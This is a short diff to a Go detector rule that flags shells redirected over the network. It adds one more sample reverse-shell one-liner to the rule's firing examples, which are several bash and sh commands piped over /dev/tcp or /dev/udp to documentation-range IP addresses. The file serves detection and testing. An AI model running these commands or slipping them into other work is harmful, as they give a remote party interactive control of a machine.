@@ -15,7 +15,7 @@ var shellDevtcp = Detector{
 	Title:  "shell redirected to the network",
 	Why:    "a shell reads its commands from a network path of bash and answers there",
 	Detect: onCommands(devtcp),
-	Fire: lines(coi.Critical,
+	Fire: lines(coi.Critical, "exec {n}<>/dev/tcp/203.0.113.9/9; bash <&$n >&$n",
 		"bash -i >& /dev/tcp/198.51.100.7/4242 0>&1",
 		"sh -i >& /dev/udp/198.51.100.7/53 0>&1",
 		"0<&196;exec 196<>/dev/tcp/198.51.100.7/4242; sh <&196 >&196 2>&196",
